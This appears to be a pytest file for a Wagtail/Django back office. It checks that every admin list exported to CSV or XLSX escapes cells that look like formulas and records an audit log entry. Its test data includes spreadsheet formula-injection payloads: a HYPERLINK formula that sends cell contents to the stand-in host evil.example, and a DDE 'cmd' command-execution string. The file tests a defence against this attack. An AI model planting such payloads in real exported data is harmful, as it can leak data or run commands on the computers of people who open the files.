"""Every list and report of the back office that Wagtail can write to a file: safe to open, and in the audit log."""

import csv
import io
import json
from collections.abc import Iterator

import pytest
from django.urls import URLResolver, get_resolver
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.log_actions import log
from wagtail.models import Page, Site

from fixsend.delivery.models import ReturnedMail
from fixsend.people.backoffice.spreadsheets import as_spreadsheet
from fixsend.people.export import csv_file
from fixsend.people.models import AuditEntry
from tests.people.staff_members import sign_in_staff, staff_member

FORMULAS = [
    '=HYPERLINK("http://evil.example?x="&A1)',
    "=2+5+cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n")


def exports() -> Iterator[tuple[str, type]]:
    """Return the address and class of every list that Wagtail can write to a file."""
    yield from _under(get_resolver(), "/")


def _under(resolver: URLResolver, prefix: str) -> Iterator[tuple[str, type]]:
    for pattern in resolver.url_patterns:
        path = prefix + str(pattern.pattern)
        if isinstance(pattern, URLResolver):
            yield from _under(pattern, path)
        elif issubclass(_view_class(pattern.callback), SpreadsheetExportMixin):
            yield path, _view_class(pattern.callback)


def _view_class(callback) -> type:
    while not hasattr(callback, "view_class") and hasattr(callback, "__wrapped__"):
        callback = callback.__wrapped__
    return getattr(callback, "view_class", object)


EXPORTS = dict(exports())


@pytest.fixture
def office(client):
    """An administrator, and rows in which a stranger or a colleague wrote formulas."""
    colleague = staff_member(name="=1+1 Colleague")
    site, root = Site.objects.get(is_default_site=True), Page.objects.get(depth=1)
    for number, formula in enumerate(FORMULAS):
        ReturnedMail.objects.create(
            digest=str(number),
            kind="bounce",
            cause="gone",
            channel="mailbox",
            is_sure=False,
            domain=formula,
            status=formula[:12],
            words=formula,
            reporter=formula,
        )
        page = root.add_child(instance=Page(title=formula, slug=f"formula-{number}", locked=True, locked_by=colleague))
        Redirect.objects.create(old_path=formula, site=site, redirect_link=formula)
        log(page, "wagtail.edit", user=colleague)
    Page.objects.filter(slug__startswith="formula").update(last_published_at=timezone.now())
    sign_in_staff(client)
    return client


def test_wagtail_has_lists_that_it_can_write_to_files():
    assert "/admin/returned-mail/" in EXPORTS
    assert len(EXPORTS) > 20


@pytest.mark.parametrize("path", EXPORTS)
def test_no_list_writes_its_file_itself(path):
    assert EXPORTS[path].as_spreadsheet is as_spreadsheet


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_no_export_carries_a_formula_and_each_is_in_the_audit_log(office, file_format):
    taken, formulas = [], 0
    for path, view in EXPORTS.items():
        before = AuditEntry.objects.filter(action="list.exported").count()
        answer = office.get(f"{path}?export={file_format}")
        written = AuditEntry.objects.filter(action="list.exported").count() - before
        assert answer.status_code in (200, 404), path
        if answer.status_code == 404:
            assert not view.list_export
            assert not written
            continue
        assert written == 1, path
        taken.append(path)
        formulas += _check(b"".join(answer) if answer.streaming else answer.content, file_format, path)
    assert {"/admin/returned-mail/", "/admin/reports/site-history/", "/admin/redirects/"} <= set(taken)
    assert formulas >= 5 * len(FORMULAS)


def _check(body: bytes, file_format: str, path: str) -> int:
    """Return how many cells show a text that would have been a formula; fail where one is."""
    if file_format == "csv":
        cells = [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")) for cell in row]
        assert not [cell for cell in cells if cell.startswith(FORMULA_SIGNS)], path
        return sum(cell.lstrip("'").startswith(FORMULA_SIGNS) for cell in cells)
    cells = [cell for row in load_workbook(io.BytesIO(body)).active.iter_rows() for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"], path
    return sum(str(cell.value or "").lstrip("'").startswith(FORMULA_SIGNS) for cell in cells)


@pytest.mark.django_db
def test_the_audit_log_names_the_list_and_the_filters_and_not_what_was_typed(office):
    office.get("/admin/returned-mail/?export=csv&kind=bounce&domain=example&cause=")
    entry = AuditEntry.objects.get(action="list.exported")
    assert entry.subject == "returned-mail"
    assert entry.detail["filters"] == ["kind", "domain"]
    assert "example" not in json.dumps(entry.detail)


@pytest.mark.parametrize("formula", [*FORMULAS, "\n=1+1"])
def test_a_cell_that_looks_like_a_formula_is_text(formula):
    ((cell,),) = list(csv.reader(io.StringIO(csv_file([], [[formula]]).decode("utf-8-sig"), newline="")))[1:]
    assert cell == f"'{formula}"
